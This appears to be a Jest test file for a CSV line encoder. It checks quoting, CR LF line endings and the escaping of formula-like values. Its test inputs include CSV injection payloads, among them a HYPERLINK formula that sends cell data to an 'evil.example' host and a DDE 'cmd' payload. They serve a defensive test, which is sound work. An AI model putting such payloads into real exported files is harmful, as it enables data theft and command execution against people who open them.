import { csvLine } from "../../src/transport/http/csv";

describe("a line of a CSV file", () => {
  it("has every field in quotes, quotes doubled, and ends with CR LF", () => {
    expect(csvLine(["a", "with, comma", 'with "quotes"', "two\r\nlines", 7, null, ""])).toBe(
      '"a","with, comma","with ""quotes""","two\r\nlines","7","",""\r\n',
    );
  });

  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "  =1",
    '"=1',
    '""=1',
    "'=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"＝1',
    "\u{00A0}=1",
    "“=1”",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
  ])("has an apostrophe before %j, which a spreadsheet program could take for a formula", (value) => {
    expect(csvLine([value])).toBe(`"'${value.replaceAll('"', '""')}"\r\n`);
  });

  it.each(["Contoso", "1-2", "a=b", "mia@contoso.example", '"quoted"', "{}", '{"a":"=1"}', "Évora", "'tis"])(
    "leaves %j as it is",
    (value) => {
      expect(csvLine([value])).toBe(`"${value.replaceAll('"', '""')}"\r\n`);
    },
  );
});
